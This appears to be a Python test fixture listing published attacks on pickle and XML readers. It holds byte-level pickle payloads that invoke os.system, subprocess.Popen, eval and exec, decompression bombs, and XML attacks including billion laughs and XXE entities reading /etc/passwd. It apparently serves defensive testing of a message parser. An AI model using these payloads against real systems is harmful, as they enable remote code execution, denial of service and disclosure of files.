"""Published attacks on those who read pickles and XML.

Each pickle, read by Python's own reader, would run a command that makes a file called `MARK`, or do other harm.
"""

import pickle

MARK = "attacked"
_COMMAND = b"touch " + MARK.encode()


def _unicode(text: bytes) -> bytes:
    return b"\x8c" + bytes((len(text),)) + text


def shared(container: str, layers: int) -> bytes:
    """A message of a few hundred bytes that is 10 to the power of `layers` large when it is written out."""
    value: object = "lol"
    for _ in range(layers):
        parts = [value] * 10
        value = {"list": parts, "tuple": tuple(parts), "dict": dict(enumerate(parts))}[container]
    return pickle.dumps({"command": "publish", "topic": "/bomb", "message": value})


_EVAL = b"open('%b','w')" % MARK.encode()

ATTACKS: dict[str, bytes] = {
    "os.system by GLOBAL": b"cos\nsystem\n(S'%b'\ntR." % _COMMAND,
    "os.system by STACK_GLOBAL": b"\x80\x04%b%b\x93%b\x85R."
    % (_unicode(b"os"), _unicode(b"system"), _unicode(_COMMAND)),
    "os.system by INST": b"(S'%b'\nios\nsystem\n." % _COMMAND,
    "os.system by OBJ": b"(cos\nsystem\nS'%b'\no." % _COMMAND,
    "os.system by EXT1": b"\x80\x02\x82\x42%b\x85R." % _unicode(_COMMAND),
    "os.system by EXT2": b"\x80\x02\x83\x42\x00%b\x85R." % _unicode(_COMMAND),
    "os.system by EXT4": b"\x80\x02\x84\x42\x00\x00\x00%b\x85R." % _unicode(_COMMAND),
    "os.system by getattr": b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR(S'%b'\ntR."
    % _COMMAND,
    "os.system behind a set": b"c__builtin__\nset\n(cos\nsystem\n(S'%b'\ntRtR." % _COMMAND,
    "posix.system": b"cposix\nsystem\n(S'%b'\ntR." % _COMMAND,
    "subprocess.Popen by NEWOBJ": b"\x80\x02csubprocess\nPopen\n(lS'touch'\naS'%b'\na\x85\x81."
    % MARK.encode(),
    "subprocess.Popen by NEWOBJ_EX": b"\x80\x04csubprocess\nPopen\n(lS'touch'\na\x85}\x92.",
    "builtins.eval": b'cbuiltins\neval\n(S"%b"\ntR.' % _EVAL,
    "builtins.exec": b'cbuiltins\nexec\n(S"%b"\ntR.' % _EVAL,
    "builtins.eval in Python 2": b'c__builtin__\neval\n(S"%b"\ntR.' % _EVAL,
    "builtins.map": b"cbuiltins\nmap\n(cos\nsystem\n(lS'%b'\natR." % _COMMAND,
    "a dotted name": b"\x80\x04%b%b\x93." % (_unicode(b"builtins"), _unicode(b"set.__class__")),
    "bytes by its class": b"\x80\x04%b%b\x93K\x05\x85R." % (_unicode(b"builtins"), _unicode(b"bytes")),
    "_codecs.encode with another codec": b"c_codecs\nencode\n(X\x01\0\0\0aX\x05\0\0\0rot13tR.",
    "BUILD on a function": b"c__builtin__\nset\n}X\x01\0\0\0aK\x01sb.",
    "BUILD on a list": b"]}X\x09\0\0\0__class__K\x01sb.",
    "a persistent id": b"Pos.system\n.",
    "a binary persistent id": b"\x80\x02X\x02\0\0\0osQ.",
    "an import": b"cantigravity\nfly\n.",
    "an out-of-band buffer": b"\x80\x05\x97.",
    "a bytearray of an exabyte": b"\x80\x05\x96\0\0\0\0\0\0\0\x10.",
}

XML_ATTACKS: dict[str, bytes] = {
    "billion laughs": b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%b">' % (n, b"&lol%d;" % (n - 1) * 10 if n > 1 else b"&lol;" * 10)
        for n in range(1, 10)
    )
    + b']><message command="publish" topic="/a" message="&lol9;" />',
    "quadratic blowup": b'<!DOCTYPE q [<!ENTITY a "%b">]><message command="publish" topic="/a" message="%b" />'
    % (b"a" * 20_000, b"&a;" * 10_000),
    "external entity": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b'<message command="publish" topic="/a" message="x">&e;</message>',
    "external document type": b'<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><message command="listTopics" />',
    "parameter entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><message command="listTopics" />',
    "attribute default": b'<!DOCTYPE message [<!ATTLIST message command CDATA "listTopics">]><message />',
    "undeclared entity": b'<message command="publish" topic="/a" message="&xxe;" />',
    "processing instruction": b'<?xml-stylesheet href="file:///etc/passwd"?><message command="listTopics" />',
    "inclusion": b'<message command="listTopics"><xi:include href="file:///etc/passwd" /></message>',
    "character data": b'<message command="listTopics"><![CDATA[<x/>]]></message>',
    "many elements": b"<a>" * 20_000,
    "two documents": b'<message command="listTopics" /><message command="listTopics" />',
    "another encoding": '<?xml version="1.0" encoding="utf-16"?><message command="listTopics" />'.encode(
        "utf-16"
    ),
    "an attribute twice": b'<message command="listTopics" command="publish" />',
}
